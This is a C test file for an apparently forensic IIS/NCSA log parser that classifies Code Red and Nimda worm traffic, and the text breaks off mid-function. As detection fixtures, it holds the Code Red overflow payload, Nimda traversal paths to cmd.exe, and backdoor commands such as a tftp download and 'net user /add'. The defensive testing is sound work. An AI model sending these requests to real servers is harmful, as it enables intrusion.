/* IIS log reader, classifier, aggregates and time zones.
 * Expected values come from the files' own text (read by eye, see comments)
 * and from codered-artifacts.md section 6, never from this code's output. */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "redsleuth/iislog.h"
#include "redsleuth/tz.h"
#include "testutil.h"

/* ------------------------------------------------------------ helpers */

#define MAXREC 64
struct rec {
  uint64_t line;
  struct rs_time when;
  bool utc, has_date, qnull, backdoor;
  char ip[64], method[16], stem[256], query[512];
  int status, win32;
  enum rs_family fam;
};
struct coll {
  struct rec r[MAXREC];
  size_t n;
  uint64_t digest; /* over every record, for chunking invariance */
};

static void collect(const struct rs_logrec *r, void *arg)
{
  struct coll *c = arg;
  uint64_t h = c->digest ^ r->line;
  h = h * 1099511628211ULL + (uint64_t)r->family * 7 + (uint64_t)r->status +
      (uint64_t)r->when.sec + (r->backdoor_use ? 99 : 0);
  for (const char *s = r->stem; *s; s++)
    h = (h ^ (unsigned char)*s) * 1099511628211ULL;
  for (const char *s = r->client_ip; *s; s++)
    h = (h ^ (unsigned char)*s) * 1099511628211ULL;
  c->digest = h;
  if (c->n >= MAXREC)
    return;
  struct rec *x = &c->r[c->n++];
  x->line = r->line;
  x->when = r->when;
  x->utc = r->utc;
  x->has_date = r->has_date;
  x->qnull = r->query == NULL;
  x->backdoor = r->backdoor_use;
  snprintf(x->ip, sizeof x->ip, "%s", r->client_ip);
  snprintf(x->method, sizeof x->method, "%s", r->method);
  snprintf(x->stem, sizeof x->stem, "%s", r->stem);
  snprintf(x->query, sizeof x->query, "%s", r->query ? r->query : "");
  x->status = r->status;
  x->win32 = r->win32_status;
  x->fam = r->family;
}

/* Feeds data in chunks of `chunk` bytes (0 = whole). */
static void run(const char *name, enum rs_logfmt fmt, const struct rs_tz *tz, const void *data,
                size_t len, size_t chunk, struct rs_logfile_stats *st, struct coll *c)
{
  struct rs_iislog *p = NULL;
  struct rs_diag d;
  memset(c, 0, sizeof *c);
  ck_assert_int_eq(rs_iislog_open(name, fmt, tz, collect, c, &p, &d), RS_OK);
  const uint8_t *b = data;
  if (chunk == 0)
    chunk = len ? len : 1;
  for (size_t off = 0; off < len; off += chunk) {
    size_t k = len - off < chunk ? len - off : chunk;
    ck_assert_int_eq(rs_iislog_feed(p, b + off, k, &d), RS_OK);
  }
  ck_assert_int_eq(rs_iislog_finish(p, st, &d), RS_OK);
  rs_iislog_free(p);
}

static void run_str(const char *name, enum rs_logfmt fmt, const struct rs_tz *tz, const char *s,
                    struct rs_logfile_stats *st, struct coll *c)
{
  run(name, fmt, tz, s, strlen(s), 0, st, c);
}

static const char *iso(const struct rs_time *t)
{
  static char buf[4][RS_TIME_ISO_MAX];
  static int slot;
  slot = (slot + 1) % 4;
  return rs_time_iso(t, buf[slot]);
}

static struct rs_tz eastern(void)
{
  /* US Eastern as in 2001: Bias 300, DaylightBias -60, DST from the first
   * Sunday of April 02:00 to the last Sunday of October 02:00. */
  struct rs_tz tz;
  memset(&tz, 0, sizeof tz);
  tz.known = true;
  tz.bias = 300;
  tz.standard_bias = 0;
  tz.daylight_bias = -60;
  tz.daylight_start = (struct rs_systemtime){0, 4, 0, 1, 2, 0, 0, 0};
  tz.standard_start = (struct rs_systemtime){0, 10, 0, 5, 2, 0, 0, 0};
  strcpy(tz.standard_name, "Eastern Standard Time");
  strcpy(tz.daylight_name, "Eastern Daylight Time");
  return tz;
}

/* The Code Red payload after the padding (codered-artifacts 6.3). */
#define CR_TAIL                                                                                \
  "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%"      \
  "u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"

static char *padded(char c, const char *tail)
{
  static char buf[2][1024];
  static int slot;
  slot ^= 1;
  memset(buf[slot], c, 224);
  snprintf(buf[slot] + 224, sizeof buf[slot] - 224, "%s", tail);
  return buf[slot];
}

/* ------------------------------------------------------ real logs */

static const struct {
  const char *file;
  uint64_t records, directives;
  const char *first, *last; /* UTC, read from the file by eye */
} real_cases[] = {
  {"logs/iis6.log", 12, 4, "2013-07-30T00:00:00Z", "2015-10-16T13:01:02Z"},
  {"logs/iis_without_date.log", 11, 4, "2013-07-30T00:00:00Z", "2013-07-30T00:00:13Z"},
  {"logs/iis10_edge_cases.log", 15, 4, "2022-01-01T00:01:24Z", "2022-01-01T18:42:55Z"},
  {"logs/ex960101.log", 5, 1, "1996-01-01T10:48:02Z", "1996-01-01T10:48:05Z"},
  /* no time column: the date alone (midnight) */
  {"logs/ex031118.log", 4, 4, "2003-11-18T00:00:00Z", "2003-11-18T00:00:00Z"},
};

START_TEST(real_logs)
{
  const char *path = rs_t_realdata(real_cases[_i].file);
  RS_T_SKIP_IF(!path, "realdata folder absent");
  size_t len;
  unsigned char *data = rs_t_slurp(path, &len);
  ck_assert_ptr_nonnull(data);
  struct rs_logfile_stats st;
  struct coll *c = malloc(sizeof *c);
  run(path, RS_LOGFMT_UNKNOWN, NULL, data, len, 0, &st, c);
  ck_assert_int_eq(st.format, RS_LOGFMT_W3C);
  ck_assert_uint_eq(st.records, real_cases[_i].records);
  ck_assert_uint_eq(st.directives, real_cases[_i].directives);
  ck_assert_uint_eq(st.unparsed, 0);
  ck_assert_uint_eq(st.lines, st.records + st.directives);
  ck_assert(st.times_utc);
  ck_assert_str_eq(iso(&st.first), real_cases[_i].first);
  ck_assert_str_eq(iso(&st.last), real_cases[_i].last);
  ck_assert_uint_eq(st.hits[RS_FAM_NONE], st.records);
  free(data);
  free(c);
}
END_TEST

START_TEST(real_field_order)
{
  /* ex960101.log: #Fields puts c-ip third and cs-uri-query ninth. */
  const char *path = rs_t_realdata("logs/ex960101.log");
  RS_T_SKIP_IF(!path, "realdata folder absent");
  size_t len;
  unsigned char *data = rs_t_slurp(path, &len);
  struct rs_logfile_stats st;
  struct coll *c = malloc(sizeof *c);
  run(path, RS_LOGFMT_UNKNOWN, NULL, data, len, 0, &st, c);
  ck_assert_uint_eq(c->n, 5);
  ck_assert_str_eq(c->r[1].ip, "195.52.225.44");
  ck_assert_str_eq(c->r[1].method, "GET");
  ck_assert_str_eq(c->r[1].stem, "/loganalyzer/info.htm");
  ck_assert_str_eq(c->r[1].query, "-");
  ck_assert_int_eq(c->r[1].status, 200);
  ck_assert_uint_eq(c->r[1].line, 3);
  ck_assert_str_eq(iso(&c->r[3].when), "1996-01-01T10:48:05Z");
  free(data);

  /* ex031118.log: no time, no status; line 7 lacks its last field. */
  path = rs_t_realdata("logs/ex031118.log");
  data = rs_t_slurp(path, &len);
  run(path, RS_LOGFMT_UNKNOWN, NULL, data, len, 0, &st, c);
  ck_assert_uint_eq(c->n, 4);
  ck_assert_str_eq(c->r[2].stem, "/images/address.gif");
  ck_assert_str_eq(c->r[2].ip, "192.168.1.102");
  ck_assert_uint_eq(c->r[2].line, 7);
  ck_assert_int_eq(c->r[2].status, -1);
  ck_assert(c->r[2].qnull); /* no cs-uri-query column */
  free(data);

  /* iis_without_date.log: date from "#Date: 2013-07-30"; c-ip is column 9. */
  path = rs_t_realdata("logs/iis_without_date.log");
  data = rs_t_slurp(path, &len);
  run(path, RS_LOGFMT_UNKNOWN, NULL, data, len, 0, &st, c);
  ck_assert(c->r[4].has_date);
  ck_assert_str_eq(iso(&c->r[4].when), "2013-07-30T00:00:03Z");
  ck_assert_str_eq(c->r[4].query, "whichServer=WEBSOS2");
  ck_assert_str_eq(c->r[4].ip, "10.10.10.100");
  ck_assert_int_eq(c->r[10].status, 302);
  free(data);

  /* iis10_edge_cases.log: "444  random\ranuser1" (double space) must not
   * shift the columns: c-ip stays ::1 and the status 200. */
  path = rs_t_realdata("logs/iis10_edge_cases.log");
  data = rs_t_slurp(path, &len);
  run(path, RS_LOGFMT_UNKNOWN, NULL, data, len, 0, &st, c);
  ck_assert_str_eq(c->r[0].ip, "::1");
  ck_assert_int_eq(c->r[0].status, 200);
  ck_assert_int_eq(c->r[1].status, 500);
  ck_assert_int_eq(c->r[6].status, 200);
  ck_assert_int_eq(c->r[6].win32, 64);
  ck_assert_str_eq(c->r[6].method, "RPC_IN_DATA");
  ck_assert_int_eq(c->r[7].win32, -1); /* 67567567567 does not fit: not logged */
  free(data);
  free(c);
}
END_TEST

/* ------------------------------------------------------ classifier */

struct ccase {
  const char *stem, *query; /* query NULL = no query column */
  enum rs_family want;
};

static const char *const nimda_stems[16] = {
  "/scripts/root.exe",
  "/MSADC/root.exe",
  "/c/winnt/system32/cmd.exe",
  "/d/winnt/system32/cmd.exe",
  "/scripts/..%255c../winnt/system32/cmd.exe",
  "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
  "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
  "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe",
  "/scripts/..%c1%1c../winnt/system32/cmd.exe",
  "/scripts/..%c0%2f../winnt/system32/cmd.exe",
  "/scripts/..%c0%af../winnt/system32/cmd.exe",
  "/scripts/..%c1%9c../winnt/system32/cmd.exe",
  "/scripts/..%%35%63../winnt/system32/cmd.exe",
  "/scripts/..%%35c../winnt/system32/cmd.exe",
  "/scripts/..%25%35%63../winnt/system32/cmd.exe",
  "/scripts/..%252f../winnt/system32/cmd.exe",
};

START_TEST(classify_nimda_probes)
{
  ck_assert_int_eq(rs_iislog_classify("GET", nimda_stems[_i], "/c+dir"), RS_FAM_NIMDA);
  /* IIS 5 default fields: no query column; the stem alone is Nimda's. */
  ck_assert_int_eq(rs_iislog_classify("GET", nimda_stems[_i], NULL), RS_FAM_NIMDA);
  /* NCSA / whole URI in one field. */
  char uri[512];
  snprintf(uri, sizeof uri, "%s?/c+dir", nimda_stems[_i]);
  ck_assert_int_eq(rs_iislog_classify("GET", uri, NULL), RS_FAM_NIMDA);
  /* Same path, a command other than Nimda's: someone at the keyboard. */
  ck_assert_int_eq(rs_iislog_classify("GET", nimda_stems[_i], "/c+echo+owned>x.htm"),
                   RS_FAM_ROOTEXE_OTHER);
}
END_TEST

static struct ccase ccases[] = {
  {"/default.ida", NULL, RS_FAM_CODERED_UNKNOWN},   /* short form, no query column */
  {"/default.ida", "-", RS_FAM_CODERED_UNKNOWN},    /* query column, nothing logged */
  {"/default.ida", "", RS_FAM_CODERED_UNKNOWN},
  {"/DEFAULT.IDA", NULL, RS_FAM_CODERED_UNKNOWN},   /* stems are case-insensitive */
  {"/null.idq", NULL, RS_FAM_IDA_OTHER},
  {"/scripts/foo.idq", "NNNNNNNNNNNNNNNNNNNN%u9090", RS_FAM_IDA_OTHER},
  {"/x.ida", "a=XXXXXXXXXXXXXXXXXXXXX", RS_FAM_IDA_OTHER},
  {"/query.idq", "CiRestriction=worm&CiMaxRecordsPerPage=10", RS_FAM_NONE},
  {"/default.ida", "NNNNNNNNNNNN", RS_FAM_NONE},     /* 12 N: below Bro's N{13} */
  {"/scripts/root.exe", "/c+tftp%20-i%20192.0.2.9%20GET%20Admin.dll", RS_FAM_NIMDA},
  {"/scripts/root.exe", "/c+tftp -i 192.0.2.9 GET Admin.dll", RS_FAM_NIMDA},
  {"/scripts/Admin.dll", "-", RS_FAM_NIMDA},
  {"/scripts/root.exe", "-", RS_FAM_ROOTEXE_OTHER},
  {"/scripts/root.exe", "/c+net+user+x+y+/add", RS_FAM_ROOTEXE_OTHER},
  {"/winnt/system32/cmd.exe", "/c+dir", RS_FAM_ROOTEXE_OTHER}, /* not a Nimda path */
  {"/SCRIPTS/ROOT.EXE", "/c+dir", RS_FAM_NIMDA},
  /* must not flag: the words are in the query, not the stem */
  {"/search.asp", "q=default.ida", RS_FAM_NONE},
  {"/search.asp", "q=root.exe", RS_FAM_NONE},
  {"/search.asp", "q=/winnt/system32/cmd.exe?/c+dir", RS_FAM_NONE},
  {"/search.asp?q=default.ida", NULL, RS_FAM_NONE},
  {"/index.html", "-", RS_FAM_NONE},
  {"/index.html", NULL, RS_FAM_NONE},
  {"/", NULL, RS_FAM_NONE},
  {"", NULL, RS_FAM_NONE},
  {"/admin.dll", NULL, RS_FAM_NONE}, /* a site's own ISAPI at the root */
  {"/roots.exe", NULL, RS_FAM_NONE},
  /* encoded names, decoded as IIS resolves them (once, and twice as the
   * double-decode bug does); an encoded file name is a person, not Nimda */
  {"/scripts/r%6fot.exe", "/c+dir", RS_FAM_ROOTEXE_OTHER},
  {"/scripts/root%2Eexe", NULL, RS_FAM_ROOTEXE_OTHER},
  {"/scripts/r%256fot.exe", "/c+dir", RS_FAM_ROOTEXE_OTHER},
  {"/scripts/%u0072oot.exe", "/c+dir", RS_FAM_ROOTEXE_OTHER},
  {"/c/winnt/system32/%63md.exe", "/c+dir", RS_FAM_ROOTEXE_OTHER},
  {"/%63/winnt/system32/cmd.exe", "/c+dir", RS_FAM_NIMDA}, /* the folder, not the name */
  {"/scripts/Adm%69n.dll", NULL, RS_FAM_ROOTEXE_OTHER},
  {"/default%2eida", NULL, RS_FAM_NONE},         /* Code Red never encoded it */
  {"/default%2eida", "NNNNNNNNNNNNNNNNNNNNNNNNNN", RS_FAM_IDA_OTHER},
  /* must not flag: encodings that do not make the name */
  {"/scripts/root%00.exe", NULL, RS_FAM_NONE},   /* a NUL is never decoded */
  {"/scripts/root.exe%2Ftxt", NULL, RS_FAM_NONE},
  {"/scripts/r%6Zot.exe", NULL, RS_FAM_NONE},    /* invalid escape kept */
  {"/my%20page.html", NULL, RS_FAM_NONE},
  {"/%", NULL, RS_FAM_NONE},
  {"/scripts/root.ex%", NULL, RS_FAM_NONE},
};

START_TEST(classify_table)
{
  const struct ccase *c = &ccases[_i];
  ck_assert_msg(rs_iislog_classify("GET", c->stem, c->query) == c->want,
                "stem %s query %s: got %s want %s", c->stem, c->query ? c->query : "(null)",
                rs_family_key(rs_iislog_classify("GET", c->stem, c->query)),
                rs_family_key(c->want));
}
END_TEST

START_TEST(classify_codered)
{
  /* The 2001 requests of codered-artifacts 6.3. */
  ck_assert_int_eq(rs_iislog_classify("GET", "/default.ida", padded('N', CR_TAIL)),
                   RS_FAM_CODERED1);
  ck_assert_int_eq(rs_iislog_classify("GET", "/default.ida", padded('X', CR_TAIL)),
                   RS_FAM_CODERED2);
  /* The whole request line in the stem (some loggers). */
  char line[1200];
  snprintf(line, sizeof line, "GET /default.ida?%s HTTP/1.0", padded('N', CR_TAIL));
  ck_assert_int_eq(rs_iislog_classify(NULL, line, NULL), RS_FAM_CODERED1);
  snprintf(line, sizeof line, "/default.ida?%s", padded('X', CR_TAIL));
  ck_assert_int_eq(rs_iislog_classify("GET", line, "-"), RS_FAM_CODERED2);
  /* N padding on another .ida is not Code Red I itself */
  ck_assert_int_eq(rs_iislog_classify("GET", "/other.ida", padded('N', CR_TAIL)),
                   RS_FAM_IDA_OTHER);
  ck_assert_str_eq(rs_family_key(RS_FAM_CODERED1), "code_red_1");
  ck_assert_str_eq(rs_family_key(RS_FAM_ROOTEXE_OTHER), "root_exe_other");
  ck_assert_str_eq(rs_family_key(RS_FAM_NONE), "none");
}
END_TEST

/* ---------------------------------------------- backdoor truth table */

static const struct {
  const char *stem, *query;
  int status;
  bool want;
} bd_cases[] = {
  {"/scripts/root.exe", "/c+dir", 200, true},
  {"/scripts/root.exe", "/c+tftp%20-i%20192.0.2.9%20GET%20Admin.dll", 502, true},
  {"/MSADC/root.exe", "/c+dir", 404, false},
  {"/scripts/root.exe", "/c+dir", 403, false},
  {"/scripts/root.exe", "/c+dir", 401, false},
  {"/scripts/root.exe", "/c+dir", 500, false},
  {"/c/winnt/system32/cmd.exe", "/c+dir", 200, true},
  {"/D/winnt/system32/cmd.exe", "/c+dir", 502, true},
  {"/c/winnt/system32/cmd.exe", "/c+dir", 404, false},
  /* Nimda's traversal is the unicode bug, not the CRII backdoor: the
   * contract names root.exe and cmd.exe "through /c or /d" only. */
  {"/scripts/..%255c../winnt/system32/cmd.exe", "/c+dir", 200, false},
  {"/scripts/root.exe?/c+dir", NULL, 200, true},
  {"/scripts/r%6Fot.exe", "/c+dir", 200, true},     /* IIS ran it all the same */
  {"/%63/winnt/system32/cmd.exe", "/c+dir", 200, true},
  {"/scripts/root%00.exe", "/c+dir", 200, false},
  {"/index.html", NULL, 200, false},
  {"/search.asp", "q=root.exe", 200, false},
};

START_TEST(backdoor_table)
{
  ck_assert_msg(rs_iislog_is_backdoor_use(bd_cases[_i].stem, bd_cases[_i].query,
                                          bd_cases[_i].status) == bd_cases[_i].want,
                "%s %d", bd_cases[_i].stem, bd_cases[_i].status);
}
END_TEST

/* ------------------------------------------------------ streaming */

static char *make_w3c_sample(size_t *len)
{
  /* CRLF and LF mixed, a blank line, Latin-1 and UTF-8 bytes, no final
   * newline. */
  static const char head[] =
      "#Software: Microsoft Internet Information Services 5.0\r\n"
      "#Version: 1.0\r\n"
      "#Date: 2001-08-04 00:00:00\r\n"
      "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status\r\n";
  char *b = malloc(8192);
  int n = snprintf(b, 8192,
                   "%s"
                   "2001-08-04 01:02:03 192.0.2.1 GET /default.ida %s 404\r\n"
                   "2001-08-04 01:02:04 192.0.2.2 GET /caf\xe9.html - 200\n"
                   "\r\n"
                   "2001-08-04 01:02:05 192.0.2.3 GET /caf\xc3\xa9.html - 200\r\n"
                   "2001-08-04 01:02:06 192.0.2.4 GET /scripts/root.exe /c+dir 200\r\n"
                   "2001-08-04 01:02:07 192.0.2.1 GET /default.ida %s 404",
                   head, padded('X', CR_TAIL), padded('N', CR_TAIL));
  *len = (size_t)n;
  return b;
}

static const size_t chunks[] = {1, 7, 0};

START_TEST(chunk_invariance)
{
  size_t len;
  char *s = make_w3c_sample(&len);
  struct rs_logfile_stats ref, st;
  struct coll *c0 = malloc(sizeof *c0), *c1 = malloc(sizeof *c1);
  run("ex010804.log", RS_LOGFMT_UNKNOWN, NULL, s, len, 0, &ref, c0);
  ck_assert_uint_eq(ref.records, 5);
  ck_assert_uint_eq(ref.lines, 10);
  ck_assert_uint_eq(ref.unparsed, 0);
  ck_assert_uint_eq(ref.hits[RS_FAM_CODERED2], 1);
  ck_assert_uint_eq(ref.hits[RS_FAM_CODERED1], 1);
  ck_assert_uint_eq(ref.hits[RS_FAM_NIMDA], 1);
  ck_assert_uint_eq(c0->r[4].line, 10);
  ck_assert(c0->r[3].backdoor);
  ck_assert_str_eq(c0->r[1].stem, "/caf\xe9.html");

  run("ex010804.log", RS_LOGFMT_UNKNOWN, NULL, s, len, chunks[_i], &st, c1);
  ck_assert_int_eq(memcmp(&st, &ref, sizeof st), 0);
  ck_assert_uint_eq(c1->digest, c0->digest);
  ck_assert_uint_eq(c1->n, c0->n);
  free(s);
  free(c0);
  free(c1);
}
END_TEST

START_TEST(long_and_binary_lines)
{
  const size_t big = 1 << 20;
  char *b = malloc(big + 8192);
  size_t n = 0;
  n += (size_t)sprintf(b + n, "#Fields: date time c-ip cs-method cs-uri-stem sc-status\n"); /* 1 */
  n += (size_t)sprintf(b + n, "2001-07-19 10:00:00 192.0.2.1 GET /index.html 200\n");       /* 2 */
  memset(b + n, 'A', big); /* 3: a 1 MB line */
  n += big;
  b[n++] = '\n';
  unsigned x = 12345; /* 4: random bytes, no newline inside */
  for (int i = 0; i < 3000; i++) {
    x = x * 1103515245u + 12345u;
    char ch = (char)(x >> 16);
    b[n++] = ch == '\n' ? 'z' : ch;
  }
  b[n++] = '\n';
  memcpy(b + n, "2001\0-07-19 a b c\n", 18); /* 5: NUL inside */
  n += 18;
  n += (size_t)sprintf(b + n, "2001-07-19 10:00:01 192.0.2.9 GET /default.ida 404\n"); /* 6 */
  for (size_t k = 0; k < sizeof chunks / sizeof chunks[0]; k++) {
    struct rs_logfile_stats st;
    struct coll *c = malloc(sizeof *c);
    run("ex010719.log", RS_LOGFMT_UNKNOWN, NULL, b, n, chunks[k] == 1 ? 4093 : chunks[k], &st, c);
    ck_assert_uint_eq(st.lines, 6);
    ck_assert_uint_eq(st.records, 2);
    ck_assert_uint_eq(st.long_lines, 1);
    ck_assert_uint_eq(st.unparsed, 3);
    ck_assert_uint_eq(st.first_unparsed_line, 3);
    ck_assert_uint_eq(c->r[1].line, 6);
    ck_assert_int_eq(c->r[1].fam, RS_FAM_CODERED_UNKNOWN);
    ck_assert_str_eq(iso(&c->r[1].when), "2001-07-19T10:00:01Z");
    free(c);
  }
  free(b);
}
END_TEST

START_TEST(w3c_dates)
{
  struct rs_logfile_stats st;
  struct coll *c = malloc(sizeof *c);
  const char *body = "#Fields: time c-ip cs-method cs-uri-stem sc-status\n"
                     "10:11:12 192.0.2.7 GET /default.ida 404\n";
  /* daily name */
  run_str("C:\\WINNT\\system32\\LogFiles\\W3SVC1\\ex010719.log", RS_LOGFMT_UNKNOWN, NULL, body,
          &st, c);
  ck_assert_int_eq(st.format, RS_LOGFMT_W3C);
  ck_assert(c->r[0].has_date);
  ck_assert_str_eq(iso(&c->r[0].when), "2001-07-19T10:11:12Z");
  ck_assert_int_eq(c->r[0].fam, RS_FAM_CODERED_UNKNOWN);
  ck_assert(c->r[0].qnull);
  /* hourly name */
  run_str("/x/ex01080413.log", RS_LOGFMT_UNKNOWN, NULL, body, &st, c);
  ck_assert_str_eq(iso(&c->r[0].when), "2001-08-04T10:11:12Z");
  /* #Date wins over the name */
  char buf[256];
  snprintf(buf, sizeof buf, "#Date: 2001-09-18 00:00:00\n%s", body);
  run_str("ex010719.log", RS_LOGFMT_UNKNOWN, NULL, buf, &st, c);
  ck_assert_str_eq(iso(&c->r[0].when), "2001-09-18T10:11:12Z");
  /* monthly name: no day known */
  run_str("ex0107.log", RS_LOGFMT_UNKNOWN, NULL, body, &st, c);
  ck_assert(!c->r[0].has_date);
  ck_assert(!st.first.set);
  ck_assert_uint_eq(st.records, 1);
  /* midnight passes in a dateless block */
  run_str("ex010719.log", RS_LOGFMT_UNKNOWN, NULL,
          "#Fields: time c-ip cs-method cs-uri-stem sc-status\n"
          "23:59:58 192.0.2.7 GET /a 200\n"
          "23:59:57 192.0.2.7 GET /b 200\n"
          "00:00:03 192.0.2.7 GET /c 200\n",
          &st, c);
  ck_assert_str_eq(iso(&c->r[1].when), "2001-07-19T23:59:57Z");
  ck_assert_str_eq(iso(&c->r[2].when), "2001-07-20T00:00:03Z");
  free(c);
}
END_TEST

START_TEST(w3c_second_header)
{
  char buf[2048];
  snprintf(buf, sizeof buf,
           "#Software: Microsoft Internet Information Services 5.0\r\n"
           "#Date: 2001-08-04 00:00:00\r\n"
           "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status\r\n"
           "2001-08-04 01:00:00 10.0.0.1 GET /default.ida %s 404\r\n"
           "#Software: Microsoft Internet Information Services 5.0\r\n"
           "#Date: 2001-08-05 00:00:00\r\n"
           "#Fields: time cs-uri-stem c-ip sc-status cs-method\r\n"
           "02:00:00 /scripts/root.exe 10.0.0.2 200 GET\r\n",
           padded('X', CR_TAIL));
  struct rs_logfile_stats st;
  struct coll *c = malloc(sizeof *c);
  run_str("ex010804.log", RS_LOGFMT_UNKNOWN, NULL, buf, &st, c);
  ck_assert_uint_eq(st.records, 2);
  ck_assert_uint_eq(st.directives, 6);
  ck_assert_int_eq(c->r[0].fam, RS_FAM_CODERED2);
  ck_assert_str_eq(c->r[1].ip, "10.0.0.2");
  ck_assert_str_eq(c->r[1].method, "GET");
  ck_assert_str_eq(c->r[1].stem, "/scripts/root.exe");
  ck_assert_int_eq(c->r[1].status, 200);
  ck_assert(c->r[1].qnull);
  ck_assert_str_eq(iso(&c->r[1].when), "2001-08-05T02:00:00Z");
  ck_assert_int_eq(c->r[1].fam, RS_FAM_NIMDA);
  ck_assert(c->r[1].backdoor);
  free(c);
}
END_TEST

START_TEST(w3c_user_agent_spaces)
{
  struct rs_logfile_stats st;
  struct coll *c = malloc(sizeof *c);
  run_str("ex010719.log", RS_LOGFMT_UNKNOWN, NULL,
          "#Fields: date time c-ip cs-method cs-uri-stem cs(User-Agent) sc-status\n"
          "2001-07-19 10:00:00 192.0.2.1 GET /a Mozilla/4.0+(compatible;+MSIE+5.5) 200\n"
          "2001-07-19 10:00:01 192.0.2.2 GET /b \"Mozilla/4.0 (compatible; MSIE 5.5)\" 301\n"
          "2001-07-19 10:00:02 192.0.2.3 GET /c Mozilla/4.0 (compatible; MSIE 5.5) 404\n",
          &st, c);
  ck_assert_uint_eq(st.records, 3);
  ck_assert_uint_eq(st.unparsed, 0);
  ck_assert_int_eq(c->r[0].status, 200);
  ck_assert_int_eq(c->r[1].status, 301);
  ck_assert_int_eq(c->r[2].status, 404);
  ck_assert_str_eq(c->r[2].stem, "/c");
  free(c);
}
END_TEST

START_TEST(iis_native_tz)
{
  struct rs_tz tz = eastern();
  char buf[2048];
  snprintf(buf, sizeof buf,
           "192.0.2.1, -, 7/19/01, 10:00:00, W3SVC1, WEB1, 10.0.0.1, 10, 100, 200, 404, 2, GET, "
           "/default.ida, %s,\r\n"
           "192.0.2.2, -, 1/15/2001, 10:00:00, W3SVC1, WEB1, 10.0.0.1, 10, 100, 200, 502, 0, "
           "GET, /scripts/root.exe, /c+tftp%%20-i%%20192.0.2.2%%20GET%%20Admin.dll,\r\n"
           "192.0.2.3, -, 9/18/01, 13:40:25, W3SVC1, WEB1, 10.0.0.1, 10, 100, 200, 200, 0, GET, "
           "/search.asp, q=a,b,c,\r\n",
           padded('N', CR_TAIL));
  struct rs_logfile_stats st;
  struct coll *c = malloc(sizeof *c);
  run_str("in010719.log", RS_LOGFMT_UNKNOWN, &tz, buf, &st, c);
  ck_assert_int_eq(st.format, RS_LOGFMT_IIS);
  ck_assert_uint_eq(st.records, 3);
  ck_assert_uint_eq(st.unparsed, 0);
  ck_assert(st.times_utc);
  ck_assert_ptr_nonnull(strstr(st.tz_used, "UTC-05:00"));
  ck_assert_ptr_nonnull(strstr(st.tz_used, "Eastern Standard Time"));
  /* July: EDT, UTC-4 */
  ck_assert_str_eq(iso(&c->r[0].when), "2001-07-19T14:00:00Z");
  ck_assert_int_eq(c->r[0].fam, RS_FAM_CODERED1);
  ck_assert_int_eq(c->r[0].win32, 2);
  /* January: EST, UTC-5 */
  ck_assert_str_eq(iso(&c->r[1].when), "2001-01-15T15:00:00Z");
  ck_assert_int_eq(c->r[1].fam, RS_FAM_NIMDA);
  ck_assert(c->r[1].backdoor);
  /* commas inside the parameters stay in the query */
  ck_assert_str_eq(c->r[2].query, "q=a,b,c");
  ck_assert_int_eq(c->r[2].fam, RS_FAM_NONE);

  /* Without a zone: local clock, said so. */
  run_str("in010719.log", RS_LOGFMT_UNKNOWN, NULL, buf, &st, c);
  ck_assert(!st.times_utc);
  ck_assert(!c->r[0].utc);
  ck_assert_str_eq(iso(&c->r[0].when), "2001-07-19T10:00:00Z");
  ck_assert_ptr_nonnull(strstr(st.tz_used, "not converted"));
  free(c);
}
END_TEST

START_TEST(ncsa_offset)
{
  char buf[2048];
  snprintf(buf, sizeof buf,
           "192.0.2.5 - - [19/Jul/2001:10:00:00 -0500] \"GET /default.ida?%s HTTP/1.0\" 404 205\n"
           "192.0.2.6 - - [18/Sep/2001:13:40:25 +0200] \"GET /scripts/root.exe?/c+dir HTTP/1.0\" "
           "200 1024\n"
           "192.0.2.7 - bob [18/Sep/2001:13:40:26 +0000] \"GET /search.asp?q=cmd.exe HTTP/1.1\" "
           "200 -\n"
           "not a log line at all\n",
           padded('X', CR_TAIL));
  struct rs_logfile_stats st;
  struct coll *c = malloc(sizeof *c);
  run_str("access.log", RS_LOGFMT_UNKNOWN, NULL, buf, &st, c);
  ck_assert_int_eq(st.format, RS_LOGFMT_NCSA);
  ck_assert_uint_eq(st.records, 3);
  ck_assert_uint_eq(st.unparsed, 1);
  ck_assert_uint_eq(st.first_unparsed_line, 4);
  ck_assert(st.times_utc);
  ck_assert_str_eq(iso(&c->r[0].when), "2001-07-19T15:00:00Z");
  ck_assert_int_eq(c->r[0].fam, RS_FAM_CODERED2);
  ck_assert_str_eq(c->r[0].stem, "/default.ida");
  ck_assert_str_eq(iso(&c->r[1].when), "2001-09-18T11:40:25Z");
  ck_assert_str_eq(c->r[1].query, "/c+dir");
  ck_assert_int_eq(c->r[1].fam, RS_FAM_NIMDA);
  ck_assert(c->r[1].backdoor);
  ck_assert_int_eq(c->r[2].fam, RS_FAM_NONE);
  ck_assert_str_eq(c->r[2].ip, "192.0.2.7");
  free(c);
}
END_TEST

START_TEST(garbage_only)
{
  /* Random bytes with newlines, no format: nothing parses, nothing breaks. */
  unsigned char *b = malloc(200000);
  unsigned x = 777;
  for (size_t i = 0; i < 200000; i++) {
    x = x * 1103515245u + 12345u;
    b[i] = (unsigned char)(x >> 16);
  }
  struct rs_logfile_stats st;
  struct coll *c = malloc(sizeof *c);
  for (int fmt = RS_LOGFMT_UNKNOWN; fmt <= RS_LOGFMT_NCSA; fmt++) {
    run("blob.bin", (enum rs_logfmt)fmt, NULL, b, 200000, 977, &st, c);
    ck_assert_uint_eq(st.records, 0);
    ck_assert_uint_gt(st.unparsed, 0);
    ck_assert_uint_le(st.unparsed + st.directives, st.lines);
  }
  free(b);
  free(c);
}
END_TEST

/* ------------------------------------------------------ aggregates */

static struct rs_logrec mkrec(const char *ip, const char *stem, const char *query, int status,
                              int64_t sec, const char *file, uint64_t line)
{
  struct rs_logrec r;
  memset(&r, 0, sizeof r);
  r.file = file;
  r.line = line;
  r.when = rs_time_from_unix(sec, 0, 0);
  r.utc = true;
  r.has_date = true;
  r.client_ip = ip;
  r.method = "GET";
  r.stem = stem;
  r.query = query;
  r.status = status;
  r.win32_status = -1;
  r.family = rs_iislog_classify("GET", stem, query);
